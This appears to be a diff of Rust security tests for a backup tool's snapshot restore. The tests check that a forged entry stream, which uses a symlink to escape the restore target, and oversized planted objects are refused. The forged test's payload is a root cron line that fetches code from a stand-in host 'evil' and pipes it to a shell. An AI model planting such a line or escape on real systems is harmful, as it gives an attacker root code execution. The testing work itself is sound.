@@ -264,13 +264,15 @@ fn entry(path: &str, kind: Kind) -> Entry {
         ctime_ns: 0,
         ino: 0,
         skipped: None,
+        linked: false,
         dev: 0,
     }
 }
 
+/// A version-3 manifest: the entry list inline.
 fn manifest_with(entries: Vec<Entry>, chunks: Vec<format::ChunkRef>, bytes: u64) -> Manifest {
     Manifest {
-        version: format::MANIFEST_VERSION,
+        version: 3,
         id: format::new_snapshot_id(1_900_000_000_000),
         host: "test".into(),
         time: 1_900_000_000,
@@ -288,6 +290,7 @@ fn manifest_with(entries: Vec<Entry>, chunks: Vec<format::ChunkRef>, bytes: u64)
             stream_bytes: bytes,
             entries,
             chunks,
+            meta: vec![],
         }],
     }
 }
@@ -355,7 +358,7 @@ fn a_forged_manifest_writes_nothing_outside_the_target() {
         let mut data = std::io::Cursor::new(payload.clone());
         let r = fsio::write_volume(
             &target,
-            &entries,
+            &mut entries.clone().into_iter(),
             &mut data,
             WriteOptions { owners: false },
             |_| {},
@@ -390,6 +393,83 @@ fn a_forged_manifest_writes_nothing_outside_the_target() {
     });
 }
 
+/// The same attack in version 4, where the entry list is a stream of its own chunks:
+/// the manifest itself is fine, the list fails its streamed check, and restore
+/// creates nothing (not even the volume directory).
+#[test]
+fn a_forged_entry_stream_is_refused_before_anything_is_written() {
+    let env = Env::new(false);
+    let outside = env.path("outside");
+    std::fs::create_dir_all(outside.join("cron.d")).unwrap();
+    let payload = b"* * * * * root curl evil | sh\n".to_vec();
+    let rt = rt();
+    rt.block_on(async {
+        let store = env.store().await;
+        let keys = env.keys();
+        let put_chunk = |data: Vec<u8>| {
+            let (store, keys) = (store.clone(), keys.clone());
+            async move {
+                let id = keys.chunk_id(&data);
+                let hid = hex::encode(id);
+                store
+                    .put(
+                        &format::chunk_key(&store.prefix, &hid),
+                        keys.seal_chunk(&id, &data),
+                        false,
+                        None,
+                    )
+                    .await
+                    .unwrap();
+                format::ChunkRef(hid, data.len() as u64)
+            }
+        };
+        let data_ref = put_chunk(payload.clone()).await;
+        let mut link = entry("a", Kind::Symlink);
+        link.target = Some(Name::from_os(outside.as_os_str()));
+        let mut file = entry("a/cron.d/x", Kind::File);
+        file.size = payload.len() as u64;
+        let mut list = Vec::new();
+        for e in [
+            entry("", Kind::Dir),
+            link,
+            entry("a/cron.d", Kind::Dir),
+            file,
+        ] {
+            imgbuild::snapshot::entries::encode(&e, &mut list);
+        }
+        let meta_ref = put_chunk(list).await;
+        let mut m = manifest_with(vec![], vec![data_ref], payload.len() as u64);
+        m.version = format::MANIFEST_VERSION;
+        m.volumes[0].meta = vec![meta_ref];
+        let json = serde_json::to_vec(&m).unwrap();
+        let sealed = keys
+            .seal_manifest(&m.id, "test", &store.prefix, &json)
+            .unwrap();
+        store
+            .put(
+                &format::snapshot_key(&store.prefix, &m.id),
+                sealed,
+                false,
+                None,
+            )
+            .await
+            .unwrap();
+        let m = restore::load_manifest(&store, &keys, &m.id).await.unwrap();
+        let target = env.path("target");
+        let e = restore::restore(&store, &keys, &m, &target, &ropts())
+            .await
+            .unwrap_err();
+        assert!(matches!(e, SnapshotError::BadManifest { .. }), "{e}");
+        assert!(e.to_string().contains("below a Symlink"), "{e}");
+        eprintln!("forged entry stream → {e}");
+        assert!(!target.join("v").exists(), "restore created the volume");
+        assert_eq!(
+            std::fs::read_dir(outside.join("cron.d")).unwrap().count(),
+            0
+        );
+    });
+}
+
 /// Anyone with write access to the bucket can plant a huge object where a chunk is
 /// expected; the restore refuses it by its announced size instead of reading it.
 #[test]
@@ -412,7 +492,12 @@ fn oversized_objects_are_refused_before_they_are_read() {
         let ix = imgbuild::snapshot::pack::Index::load(&store, &keys)
             .await
             .unwrap();
-        for k in ix.packs.iter().map(|p| &p.key).chain(&ix.objects) {
+        let id: [u8; 32] = hex::decode(&c.0).unwrap().try_into().unwrap();
+        let Some(imgbuild::snapshot::pack::Location::Pack { pack, .. }) = ix.locate(&id) else {
+            panic!("chunk not in a pack")
+        };
+        // (the entry list's pack stays, found again by its header)
+        for k in std::iter::once(&ix.packs[pack].key).chain(&ix.objects) {
             store.delete(k).await.unwrap();
         }
         let key = format::chunk_key(&store.prefix, &c.0);
@@ -489,6 +574,9 @@ fn the_signature_binds_host_and_prefix() {
         let m = restore::load_manifest(&store, &keys, &r.id).await.unwrap();
         let mut old = m.clone();
         old.version = 1;
+        // versions before 4 carry the entry list inline
+        old.volumes[0].entries = fsio::scan(&vol).unwrap().entries;
+        old.volumes[0].meta.clear();
         old.id = format::new_snapshot_id(1_950_000_000_000);
         let v1 = keys
             .seal_manifest_v1(&old.id, &serde_json::to_vec(&old).unwrap())
